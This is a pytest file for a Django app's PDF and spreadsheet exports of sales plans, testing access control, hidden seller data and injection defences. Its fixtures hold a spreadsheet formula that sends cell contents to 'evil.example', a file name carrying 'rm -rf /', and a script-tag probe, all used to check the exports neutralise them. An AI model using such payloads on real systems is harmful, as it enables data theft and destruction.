"""The plan as PDF and XLSX (documents/): made from the buyer read model, downloadable from
the seller's plan page and the buyer's share link, never carrying a seller-only field, and a
spreadsheet that never turns a title into a formula."""

from __future__ import annotations

import datetime as dt
import io
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook
from pypdf import PdfReader

from mutualplan.documents import file_name
from mutualplan.plans.actors import Actor
from mutualplan.plans.models import Plan
from mutualplan.plans.services.sharing import revoke_share_link
from mutualplan.workspaces.models import Workspace
from tests.conftest import NEW_PLAN, Api, day, seller_plan, share_link_token
from tests.server import in_ci

pytestmark = pytest.mark.django_db

SCREENSHOTS = Path(__file__).resolve().parents[2] / "artifacts" / "screenshots"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for the contract")'
# Seller-only strings (PRODUCT.md, "What the buyer sees"): none may reach a document.
SELLER_ONLY = ["7319537", "7,319,537", "stage_quokka", "segment_platypus", "wombat", "xyzzy"]


@pytest.fixture
def documented_plan(owner: Any, owner_api: Api, workspace: Workspace) -> dict[str, Any]:
    """A plan whose deal and rows carry seller-only data, a shared note, a row whose title
    a spreadsheet would run as a formula, and rows starting with + - @."""
    workspace.stages = [*workspace.stages, "stage_quokka"]
    workspace.account_types = [*workspace.account_types, "segment_platypus"]
    workspace.save()
    plan = seller_plan(
        owner,
        deal={
            "account_name": "Northwind Health / Ops",
            "account_type": "segment_platypus",
            "stage": "stage_quokka",
            "amount": 7319537,
            "currency": "USD",
            "crm_ref": "006-XYZZY-42",
        },
    )
    plan_id = plan["id"]
    first = plan["milestones"][0]
    answers = [
        owner_api.patch(
            f"/plans/{plan_id}/milestones/{first['id']}",
            {
                "version": first["version"],
                "private_notes": "wombat: the champion leaves in June",
                "notes": "Business case deck shared on the call",
            },
        ),
        *[
            owner_api.post(
                f"/plans/{plan_id}/milestones",
                {"title": title, "owner_side": "buyer", "due_date": day(30 + i)},
            )
            for i, title in enumerate([FORMULA, "+1 sign-off", "-2 budget check", "@legal"])
        ],
    ]
    assert [a.status_code for a in answers] == [200, 201, 201, 201, 201], [
        a.json_body for a in answers
    ]
    return owner_api.get(f"/plans/{plan_id}").json_body  # type: ignore[no-any-return]


def seller_client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def squeeze(text: str) -> str:
    """Text without whitespace: a PDF wraps long titles across lines."""
    return "".join(text.split())


def test_the_seller_downloads_a_pdf_with_every_row_and_the_reason_and_no_seller_field(
    owner: Any, documented_plan: dict[str, Any]
) -> None:
    response = seller_client(owner).get(f"/plans/{documented_plan['id']}/plan.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        'attachment; filename="northwind-health-ops-mutual-action-plan.pdf"'
    )
    text = pdf_text(response.content)
    flat = squeeze(text)
    for row in documented_plan["milestones"]:
        assert squeeze(row["title"]) in flat, row["title"]
    assert squeeze(documented_plan["target_reason"]) in flat
    assert "Northwind Health / Ops" in text
    assert "Business case deck shared on the call" in text
    assert "Olivia Owner" in text
    lowered = flat.lower()
    assert [s for s in SELLER_ONLY if squeeze(s).lower() in lowered] == []


def test_the_xlsx_has_the_articles_table_with_real_dates_a_frozen_header_and_colours(
    owner: Any, documented_plan: dict[str, Any]
) -> None:
    response = seller_client(owner).get(f"/plans/{documented_plan['id']}/plan.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(
        'filename="northwind-health-ops-mutual-action-plan.xlsx"'
    )
    book = load_workbook(io.BytesIO(response.content))
    sheet = book["Plan"]
    assert [c.value for c in sheet[1]] == ["Milestone", "Owner", "Due date", "Status", "Notes"]
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == [m["title"] for m in documented_plan["milestones"]]
    for cells, row in zip(rows, documented_plan["milestones"], strict=True):
        due = cells[2]
        assert isinstance(due, dt.datetime | dt.date)
        as_date = due.date() if isinstance(due, dt.datetime) else due
        assert as_date.isoformat() == row["due_date"]
    assert rows[0][4] == "Business case deck shared on the call"
    fills = {sheet.cell(row=r, column=4).fill.fgColor.rgb for r in range(2, len(rows) + 2)}
    assert fills and fills != {"00000000"}
    everything = " ".join(
        str(v) for ws in book.worksheets for r in ws.iter_rows(values_only=True) for v in r
    ).lower()
    assert [s for s in SELLER_ONLY if s.lower() in everything] == []


def test_a_title_starting_with_equals_is_exported_as_text_not_a_formula(
    owner: Any, documented_plan: dict[str, Any]
) -> None:
    response = seller_client(owner).get(f"/plans/{documented_plan['id']}/plan.xlsx")
    sheet = load_workbook(io.BytesIO(response.content))["Plan"]
    cells = {c.value: c for c in sheet["A"][1:]}
    for title in [FORMULA, "+1 sign-off", "-2 budget check", "@legal"]:
        cell = cells[title]
        assert cell.data_type == "s", title
        assert cell.quotePrefix, title
    # Nothing in the file is a formula.
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in book for r in ws.iter_rows() for c in r]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


def test_the_buyer_downloads_both_files_from_the_share_link_and_a_revoked_link_gives_410(
    owner: Any, documented_plan: dict[str, Any]
) -> None:
    stored = Plan.objects.get(id=documented_plan["id"])
    token = share_link_token(stored, owner)
    buyer = Client()
    pdf = buyer.get(f"/s/{token}/plan.pdf")
    assert pdf.status_code == 200
    assert squeeze(documented_plan["target_reason"]) in squeeze(pdf_text(pdf.content))
    xlsx = buyer.get(f"/s/{token}/plan.xlsx")
    assert xlsx.status_code == 200
    assert (
        load_workbook(io.BytesIO(xlsx.content))["Plan"]["A2"].value
        == (documented_plan["milestones"][0]["title"])
    )
    revoke_share_link(stored.share_links.get(), Actor.seller(owner))
    assert buyer.get(f"/s/{token}/plan.pdf").status_code == 410
    assert buyer.get(f"/s/{token}/plan.xlsx").status_code == 410
    assert buyer.get("/s/not-a-token/plan.pdf").status_code == 404


def test_an_outsider_gets_404_and_an_anonymous_visitor_is_sent_to_sign_in(
    outsider: Any, plan: dict[str, Any]
) -> None:
    assert seller_client(outsider).get(f"/plans/{plan['id']}/plan.pdf").status_code == 404
    assert seller_client(outsider).get(f"/plans/{plan['id']}/plan.xlsx").status_code == 404
    anonymous = Client().get(f"/plans/{plan['id']}/plan.pdf")
    assert anonymous.status_code == 302
    assert "/login/" in anonymous["Location"]


def test_an_unknown_format_is_404_not_500(owner: Any, plan: dict[str, Any]) -> None:
    token = share_link_token(plan, owner)
    assert seller_client(owner).get(f"/plans/{plan['id']}/plan.docx").status_code == 404
    assert Client().get(f"/s/{token}/plan.exe").status_code == 404


def test_both_pages_link_to_the_downloads(owner: Any, plan: dict[str, Any]) -> None:
    page = seller_client(owner).get(f"/plans/{plan['id']}/").content.decode()
    assert f'href="/plans/{plan["id"]}/plan.pdf"' in page
    assert f'href="/plans/{plan["id"]}/plan.xlsx"' in page
    token = share_link_token(plan, owner)
    buyer = Client()
    buyer.post(f"/s/{token}/", {"name": "Priya Champion", "email": "priya@buyer.example"})
    shared = buyer.get(f"/s/{token}/").content.decode()
    assert f'href="/s/{token}/plan.pdf"' in shared
    assert f'href="/s/{token}/plan.xlsx"' in shared


def test_a_file_name_is_a_safe_slug_of_the_account_name() -> None:
    assert file_name('Acme "Corp"; rm -rf /', "pdf") == "acme-corp-rm-rf-mutual-action-plan.pdf"
    assert file_name("Société Générale", "xlsx") == "societe-generale-mutual-action-plan.xlsx"
    assert file_name("日本", "pdf") == "plan-mutual-action-plan.pdf"


def test_the_first_page_of_the_pdf_renders_to_png(
    owner: Any, documented_plan: dict[str, Any]
) -> None:
    """The first page as the champion's executive sees it: artifacts/screenshots/plan-pdf.png,
    made by pdftoppm (poppler-utils, which scripts/test installs)."""
    if not shutil.which("pdftoppm"):
        message = "pdftoppm is not installed (apt-get install poppler-utils)"
        if in_ci():
            pytest.fail(f"{message}. CI renders the PDF's first page, so this fails.")
        pytest.skip(message)
    content = seller_client(owner).get(f"/plans/{documented_plan['id']}/plan.pdf").content
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    target = SCREENSHOTS / "plan-pdf"
    pdf = SCREENSHOTS / "plan-pdf.pdf"
    pdf.write_bytes(content)
    subprocess.run(
        ["pdftoppm", "-png", "-r", "110", "-f", "1", "-l", "1", "-singlefile", pdf, target],
        check=True,
    )
    pdf.unlink()
    png = Path(f"{target}.png")
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_odd_text_and_a_plan_without_dates_still_give_both_files(
    owner: Any, owner_api: Api
) -> None:
    """Markup, control characters and a long note in a row, no target date and an undated
    row: both files render, the markup as text, the control characters dropped."""
    deal = {**NEW_PLAN["deal"], "account_name": "<b>Bold</b> & Co"}
    plan = seller_plan(owner, target_offset=None, deal=deal)
    first = plan["milestones"][0]
    answers = [
        owner_api.patch(
            f"/plans/{plan['id']}/milestones/{first['id']}",
            {"version": first["version"], "notes": "Bell \x07 tab\tend " + "long " * 400},
        ),
        owner_api.post(
            f"/plans/{plan['id']}/milestones",
            {"title": "<script>alert(1)</script>", "owner_side": "joint", "anchored": False},
        ),
    ]
    assert [a.status_code for a in answers] == [200, 201], [a.json_body for a in answers]
    client = seller_client(owner)
    pdf = client.get(f"/plans/{plan['id']}/plan.pdf")
    assert pdf.status_code == 200
    text = pdf_text(pdf.content)
    assert "<b>Bold</b> & Co" in text
    assert "<script>alert(1)</script>" in text
    assert pdf["Content-Disposition"].endswith('filename="b-bold-b-co-mutual-action-plan.pdf"')
    xlsx = client.get(f"/plans/{plan['id']}/plan.xlsx")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content))["Plan"]
    values = {r[0]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert values["<script>alert(1)</script>"][2] is None
    assert str(values[first["title"]][4]).startswith("Bell  tab\tend long")


def test_the_api_exports_both_files_to_the_seller_and_nothing_to_others(
    owner_api: Api, outsider_api: Api, documented_plan: dict[str, Any]
) -> None:
    def get(api: Api, kind: str) -> Any:
        headers = {"Authorization": f"Bearer {api.token}"} if api.token else {}
        path = f"/api/v1/plans/{documented_plan['id']}/export/{kind}"
        return api.client.get(path, headers=headers)

    pdf = get(owner_api, "pdf")
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"
    flat = squeeze(pdf_text(pdf.content))
    assert all(squeeze(m["title"]) in flat for m in documented_plan["milestones"])
    assert [s for s in SELLER_ONLY if squeeze(s).lower() in flat.lower()] == []
    xlsx = get(owner_api, "xlsx")
    assert xlsx.status_code == 200
    assert xlsx["Content-Disposition"].endswith('-mutual-action-plan.xlsx"')
    assert load_workbook(io.BytesIO(xlsx.content))["Plan"]["A1"].value == "Milestone"
    assert get(outsider_api, "pdf").status_code == 404
    assert get(outsider_api, "xlsx").status_code == 404
    assert get(Api(Client()), "pdf").status_code == 401
